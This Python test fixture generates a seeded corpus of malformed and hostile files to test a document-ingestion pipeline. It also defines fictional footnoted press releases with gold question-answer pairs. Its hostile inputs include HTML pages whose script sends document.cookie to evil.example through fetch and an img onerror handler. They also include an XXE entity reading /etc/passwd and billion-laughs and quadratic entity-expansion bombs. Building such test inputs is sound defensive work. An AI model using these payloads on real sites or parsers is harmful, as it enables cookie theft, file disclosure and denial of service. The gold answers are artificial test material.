"""A generated corpus of hostile and malformed files mixed with good ones (seeded)."""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from pathlib import Path

HUGE_LIMIT = 200_000  # max_file_bytes for these runs; the huge files are well over it
EVIL_SCRIPT = "stealCookies"


def _laughs(levels: int) -> str:
    entities = ['<!ENTITY l0 "lol">'] + [
        f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' for n in range(1, levels)
    ]
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE r [{"".join(entities)}]>\n'
        f'<rss version="2.0"><channel><title>&l{levels - 1};</title>'
        f"<item><title>x</title><description>&l{levels - 1};</description></item></channel></rss>"
    )


def _external_entity(n: int) -> str:
    return (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f"<rss><channel><item><title>t{n}</title><description>&x;</description></item>"
        "</channel></rss>"
    )


def _quadratic(n: int) -> str:
    blob = "A" * 50_000
    return (
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "{blob}">]>'
        f"<rss><channel><item><title>q{n}</title><description>{'&a;' * 3000}</description>"
        "</item></channel></rss>"
    )


def _broken_date_feed(rng: random.Random, n: int) -> str:
    bad = rng.choice(["32/13/2025", "yesterday-ish", "2025-02-30", "Mon, 99 Foo 20", ""])
    return (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title><item>'
        f"<title>Brightfield {n} adds a plant</title><guid>bd-{n}</guid>"
        f"<link>https://bd.example.com/{n}</link><pubDate>{bad}</pubDate>"
        f"<description>Brightfield {n} added a plant making {100 + n} pumps a day."
        "</description></item></channel></rss>"
    )


def _script_page(n: int) -> str:
    return (
        f"<html><head><title>Corvane {n} opens a lab</title>"
        f"<script>function {EVIL_SCRIPT}(){{fetch('https://evil.example/'+document.cookie)}}"
        f"</script><style>body{{color:red}}</style></head><body>"
        f"<h1>Corvane {n} opens a lab</h1><p>Corvane {n} opened a lab with {20 + n} benches "
        f"in Malmo on March {1 + n % 28}, 2025.</p>"
        f'<script>{EVIL_SCRIPT}()</script><img src=x onerror="{EVIL_SCRIPT}()"></body></html>'
    )


def _good_note(n: int) -> str:
    return (
        f"---\ntitle: Velmora update {n}\ndate: 2025-05-{1 + n % 28:02d}\n---\n\n"
        f"# Velmora update {n}\n\nVelmora shipped {300 + n} heat pumps to Oslo in May.\n"
    )


def write_hostile_corpus(root: Path, seed: int = 8) -> tuple[set[str], set[str]]:
    """Files under `root`; returns (names that must fail, names that must be ingested)."""
    rng = random.Random(seed)
    root.mkdir(parents=True, exist_ok=True)
    bad: set[str] = set()
    good: set[str] = set()

    def put(name: str, data: bytes | str, into: set[str]) -> None:
        (root / name).write_bytes(data.encode() if isinstance(data, str) else data)
        into.add(name)

    makers: list[tuple[str, int, Callable[[int], bytes | str]]] = [
        ("binary-{n}.txt", 20, lambda n: bytes(rng.randrange(256) for _ in range(2048))),
        ("binary-{n}.md", 10, lambda n: b"\x00\x01\x02PK\x03\x04" + rng.randbytes(900)),
        ("zero-{n}.md", 10, lambda n: b""),
        ("blank-{n}.txt", 10, lambda n: " \n\t\n" * (n + 1)),
        ("huge-{n}.txt", 8, lambda n: "Padding sentence. " * 20_000),
        ("nested-{n}.json", 10, lambda n: "[" * (50_000 + n) + "]" * (50_000 + n)),
        ("nested-obj-{n}.json", 5, lambda n: '{"a":' * 30_000 + "1" + "}" * 30_000),
        ("truncated-{n}.json", 10, lambda n: json.dumps([{"id": f"t{n}", "text": "Zeta é"}])[:-7]),
        ("trunc-utf8-{n}.json", 10, lambda n: f'[{{"id": "u{n}", "text": "café"}}]'),
        ("notrecords-{n}.json", 8, lambda n: json.dumps({"hello": n, "list": [1, 2, 3]})),
        ("badrecords-{n}.jsonl", 8, lambda n: "\n".join(['{"id": 1}', "not json", "[1,2]"])),
        ("bomb-{n}.rss", 8, lambda n: _laughs(8 + n % 3)),
        ("xxe-{n}.xml", 8, _external_entity),
        ("quadratic-{n}.xml", 6, _quadratic),
        ("malformed-{n}.xml", 8, lambda n: f"<rss><channel><item><title>x{n}</item>"),
    ]
    for pattern, count, make in makers:
        for n in range(count):
            data = make(n)
            if pattern.startswith("trunc-utf8"):
                data = data.encode()[:-4]  # cut inside the two-byte é and the closing quote
            put(pattern.format(n=n), data, bad)
    for n in range(12):
        put(f"feed-baddate-{n}.rss", _broken_date_feed(rng, n), good)
    for n in range(12):
        put(f"script-{n}.html", _script_page(n), good)
    for n in range(10):
        put(
            f"latin1-{n}.txt",
            f"Société {n} ouvre un café à Zürich le 3 mars 2025.".encode("latin-1"),
            good,
        )
    for n in range(10):
        text = f"---\ntitle: [unclosed\ndate: {{{{ nope\n---\n\nNorvik {n} hired {40 + n} nurses."
        put(f"badfront-{n}.md", text, bad)
    for n in range(40):
        put(f"good-{n}.md", _good_note(n), good)
    records = [
        {"id": f"rec-{n}", "title": f"Ostrava {n} grant", "published": f"2025-01-0{1 + n % 9}",
         "text": f"Ostrava {n} received a grant of {10 + n} million euros for trams."}
        for n in range(20)
    ]  # fmt: skip
    put("good-records.json", json.dumps(records), good)
    return bad, good


# -- pathological sizes and footnote markers (issue 12) ---------------------------------------

_WORDS = ("the port authority said its new cranes would move more containers each week while "
          "crews trained on the quay and the railway link carried freight inland").split()  # fmt: skip


def one_line_record(size: int, seed: int = 12) -> dict[str, str]:
    """A record whose text is one line of `size` characters of varied short sentences."""
    rng = random.Random(seed)
    parts, length = [], 0
    while length < size:
        words = " ".join(rng.choice(_WORDS) for _ in range(rng.randint(6, 18)))
        sentence = f"{words.capitalize()} in {rng.randint(1990, 2030)}."
        parts.append(sentence)
        length += len(sentence) + 1
    return {"id": f"one-line-{size}", "title": "One very long line", "text": " ".join(parts)}


def one_word_sentences(count: int = 100_000) -> str:
    """A text file of `count` one-word sentences on one line."""
    return " ".join(("Yes.", "No.", "Maybe.", "Later.")[n % 4] for n in range(count)) + "\n"


# Written for these tests: press releases in the investor-relations style, whose figures carry
# bracketed footnote markers that the answerer must never take for its own citation markers.
FOOTNOTED_RELEASES: list[dict[str, str]] = [
    {
        "id": "corrimar-results",
        "title": "Corrimar Shipping posts full-year results [1]",
        "published": "2026-02-12",
        "text": (
            "Corrimar Shipping reported revenue of 412 million euros for 2025 [1], up 9 percent "
            "on the prior year [2]. The company expects to take delivery of six LNG carriers by "
            "March 2027 [3, 4]. Its board proposed a dividend of 0.80 euros per share [5].\n\n"
            "Notes: [1] Unaudited. [2] Restated after the sale of the ferry unit. [3] Subject to "
            "yard capacity. [4] Two carriers are chartered. [5] Payable in May."
        ),
    },
    {
        "id": "tallow-ridge-resource",
        "title": "Tallow Ridge Mining updates its Quarry Creek estimate",
        "published": "2026-01-20",
        "text": (
            "Tallow Ridge Mining said its Quarry Creek deposit holds 2.3 million ounces of gold "
            "[1][2], against 1.9 million ounces a year ago [3]. First pour is planned for the "
            "fourth quarter of 2027 [4]. The mine will employ about 640 people at full output "
            "[ 5 ].\n\nFootnotes: [1] Indicated and inferred. [2] At a 0.5 g/t cut-off. "
            "[3] As published in January 2025. [4] Pending permits. [5] Including contractors."
        ),
    },
    {
        "id": "brennic-clinics",
        "title": "Brennic Health opens clinics in Leeds",
        "published": "2026-04-02",
        "text": (
            "Brennic Health opened 14 outpatient clinics in Leeds during the first quarter [12]. "
            "The clinics will see roughly 90,000 patients a year [13-15], the company said. "
            "Brennic plans another 8 clinics in Sheffield by 2028 [16]."
        ),
    },
]
FOOTNOTE_QUESTIONS = [  # (question, gold answer, doc_id)
    ("What revenue did Corrimar Shipping report for 2025?", "412 million euros", "corrimar-results"),
    ("What dividend per share did Corrimar's board propose?", "0.80 euros", "corrimar-results"),
    ("How many ounces of gold does the Quarry Creek deposit hold?", "2.3 million ounces",
     "tallow-ridge-resource"),
    ("How many outpatient clinics did Brennic Health open in Leeds?", "14", "brennic-clinics"),
    ("How many patients a year will the Brennic clinics see?", "90,000", "brennic-clinics"),
    ("How many people will the Quarry Creek mine employ?", "640", "tallow-ridge-resource"),
]  # fmt: skip
